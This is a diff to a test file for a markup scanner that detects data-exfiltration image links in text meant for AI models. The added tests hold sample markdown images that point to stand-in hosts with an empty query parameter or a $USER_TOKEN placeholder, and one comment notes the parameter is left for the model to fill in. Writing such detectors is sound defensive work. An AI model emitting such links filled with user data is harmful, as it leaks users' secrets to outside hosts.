@@ -87,6 +87,10 @@ test('markup: hidden text and exfiltration image links are found; badges are not
   assert.equal(m.exfilLinks[0]?.strength, 'placeholder');
   const badge = scanMarkup('![npm](https://img.shields.io/npm/v/x.svg?style=flat)');
   assert.equal(badge.exfilLinks[0]?.strength, 'query');
+  // An empty parameter at the end is left for the model to fill in.
+  assert.equal(scanMarkup('![logo](https://collect.example.org/img.png?q=)').exfilLinks[0]?.strength, 'placeholder');
+  assert.equal(scanMarkup('![x](https://a.example/p.png?u=$USER_TOKEN)').exfilLinks[0]?.strength, 'placeholder');
+  assert.equal(scanMarkup('![sponsors](https://img.shields.io/badge/$-sponsors-brightgreen)').exfilLinks.length, 0);
 });
 
 const multilingual: Record<string, string> = {
